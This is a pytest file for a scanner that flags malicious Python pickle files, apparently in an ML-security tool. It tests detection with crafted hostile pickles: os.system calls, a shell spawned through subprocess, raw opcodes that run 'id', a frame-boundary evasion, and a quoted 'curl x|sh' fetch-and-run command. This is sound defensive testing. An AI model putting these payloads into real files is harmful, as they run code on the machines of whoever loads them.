"""Right on both sides: no hostile file known, 95 % of them dangerous; at most 1 % of honest files not known."""

from __future__ import annotations

import itertools
import re
from collections import Counter
from collections.abc import Iterator
from importlib import import_module
from importlib.util import find_spec
from pathlib import Path

import pytest

from aispm_nb.inspection.pickles.inspect import pickle_bytes
from aispm_nb.inspection.pickles.names import allowed, danger, dangers, judge
from aispm_nb.inspection.verdict import Verdict

from . import benign, hostile


@pytest.fixture(autouse=True)
def canary() -> Iterator[None]:
    """Nothing that the corpus would do was done."""
    Path(hostile.CANARY).unlink(missing_ok=True)
    yield
    assert not Path(hostile.CANARY).exists()


def test_hostile_files() -> None:
    verdicts = Counter()
    for name, data in hostile.corpus():
        row = pickle_bytes(data, name)
        assert row.verdict != Verdict.KNOWN, name
        assert row.why
        verdicts[row.verdict] += 1
    assert verdicts[Verdict.DANGEROUS] >= 0.95 * verdicts.total()


@pytest.mark.parametrize(
    ("name", "data"),
    list(hostile.corpus(hostile.UNHEARD_OF)),
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_nobody_listed_is_not_known(name: str, data: bytes) -> None:
    assert pickle_bytes(data, name).verdict != Verdict.KNOWN


@pytest.mark.parametrize(
    ("name", "data"), list(hostile.confusing()), ids=lambda value: value if isinstance(value, str) else ""
)
def test_what_hides_is_not_known(name: str, data: bytes) -> None:
    assert pickle_bytes(data, name).verdict != Verdict.KNOWN


@pytest.mark.filterwarnings("ignore")
def test_honest_files() -> None:
    rows = [
        (name, pickle_bytes(data, name))
        for name, value in itertools.chain(benign.data(), benign.compositions(), benign.boosters())
        for _, data in benign.dumped(value)
    ]
    rows += [
        (name, pickle_bytes(data, name))
        for name, value in benign.estimators()
        for _, data in benign.dumped(value, range(2, 6, 3))
    ]
    odd = Counter(f"{name}: {row.verdict}: {row.why}" for name, row in rows if row.verdict != Verdict.KNOWN)
    assert len(rows) > 1_000
    assert odd.total() <= 0.01 * len(rows), odd
    assert not any("dangerous:" in said for said in odd)


if find_spec("torch"):  # it is a gigabyte, so CI does not have it

    def test_legacy_torch() -> None:
        data = benign.torch_legacy(import_module("torch").nn.Linear(2, 3).state_dict())
        row = pickle_bytes(data, "legacy")
        assert (row.format, row.verdict) == ("torch-legacy", Verdict.KNOWN)
        assert pickle_bytes(data + b"more", "legacy").verdict == Verdict.UNKNOWN


# A function with the code of another program inside: cloudpickle by value.


def helpful(rows: list[float]) -> list[float]:
    return [row + 1 for row in rows]


def harmful(rows: list[float]) -> list[float]:
    import os

    os.system(hostile.TOUCH)
    return rows


def calling(rows: list[float]) -> list[float]:
    __import__("subprocess").run(["sh"])
    return rows


@pytest.mark.parametrize(
    ("function", "verdict"), [(helpful, Verdict.UNKNOWN), (harmful, Verdict.DANGEROUS), (calling, Verdict.DANGEROUS)]
)
def test_code_inside(function: object, verdict: Verdict, monkeypatch: pytest.MonkeyPatch) -> None:
    cloudpickle = pytest.importorskip("cloudpickle")
    monkeypatch.setattr(function, "__module__", "__main__")
    assert pickle_bytes(cloudpickle.dumps(function), "function").verdict == verdict


def test_code_inside_that_runs_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A function by value waits for its use; one that is called while the file is loaded does not."""
    cloudpickle = pytest.importorskip("cloudpickle")

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return helpful, ([1.0],)

    monkeypatch.setattr(helpful, "__module__", "__main__")
    row = pickle_bytes(cloudpickle.dumps(Evil()), "evil")
    assert row.verdict == Verdict.DANGEROUS


@pytest.mark.parametrize(
    ("style", "says"),
    [
        ("global", "calls os.system('curl x|sh') when it is loaded; do not load it"),
        ("obj", "calls os.system('curl x|sh') when it is loaded; do not load it"),
        ("named only", "names os.system, which runs commands and changes files; do not load it"),
    ],
)
def test_the_sentence(style: str, says: str) -> None:
    assert pickle_bytes(hostile.STYLES[style]("os", "system", hostile.literal(("curl x|sh",))), "x").why == says


def test_the_whole_chain_is_said() -> None:
    data = b"cbuiltins\ngetattr\ncos\nX\nU\x06system\x86RU\x02id\x85R."
    assert pickle_bytes(data, "x").why == "calls getattr(os.X, 'system')('id') when it is loaded; do not load it"


def test_what_stands_across_a_frame_is_read() -> None:
    """Unpicklers differ in whether bytes that go beyond their frame are data or opcodes (CPython's issue 154848)."""
    call = b"cos\nsystem\n" + hostile.literal((hostile.TOUCH,)) + b"R."

    def file(inside: bytes, frame: int) -> bytes:
        body = b"B" + len(inside).to_bytes(4, "little") + inside + b"."
        return b"\x80\x05\x95" + frame.to_bytes(8, "little") + body

    assert pickle_bytes(file(call, 2), "x").verdict is Verdict.DANGEROUS
    assert pickle_bytes(file(bytes(40), 2), "x").verdict is Verdict.UNKNOWN
    assert pickle_bytes(file(bytes(40), 46), "x").verdict is Verdict.KNOWN


def test_plain_data_in_a_module_of_dangers() -> None:
    """Jagged tensors keep the lengths that a dimension may have."""
    lengths = b"ctorch._dynamo.decorators\n_DimRange\n)\x81}" + hostile.text("dim") + b"K\1sb."
    assert pickle_bytes(lengths, "x").verdict is Verdict.KNOWN
    assert judge("torch._dynamo.decorators", "_DimRange.__init__.__globals__").verdict is Verdict.DANGEROUS
    assert judge("torch._dynamo.decorators", "disable").verdict is Verdict.DANGEROUS


@pytest.mark.parametrize(
    ("module", "name", "verdict"),
    [
        ("copy_reg", "_reconstructor", Verdict.KNOWN),
        ("__builtin__", "set", Verdict.KNOWN),
        ("__builtin__", "reduce", Verdict.UNKNOWN),
        ("sklearn.ensemble.forest", "RandomForestClassifier", Verdict.KNOWN),
        ("numpy.core.multiarray", "_reconstruct", Verdict.KNOWN),
        ("sklearn.base", "os.system", Verdict.DANGEROUS),
        ("sklearn.base", "BaseEstimator.__init__.__globals__", Verdict.UNKNOWN),
        ("commands", "getoutput", Verdict.DANGEROUS),
        ("xgboost.core", "DMatrix", Verdict.UNKNOWN),
        ("lightgbm.basic", "_InnerPredictor", Verdict.UNKNOWN),
        ("pandas._libs.parsers", "TextReader", Verdict.UNKNOWN),
        ("os", None, Verdict.DANGEROUS),
        (None, "system", Verdict.UNKNOWN),
    ],
)
def test_names(module: str | None, name: str | None, verdict: Verdict) -> None:
    assert judge(module, name).verdict == verdict


def test_the_two_lists_do_not_contradict() -> None:
    both = [f"{module}.{name}" for module, names in allowed().items() for name in names if danger(module, name)]
    assert both == []


def test_each_danger_has_a_reason() -> None:
    assert all(re.fullmatch(r"[\w.]+", name) and len(why) > 10 for name, why in dangers().items())
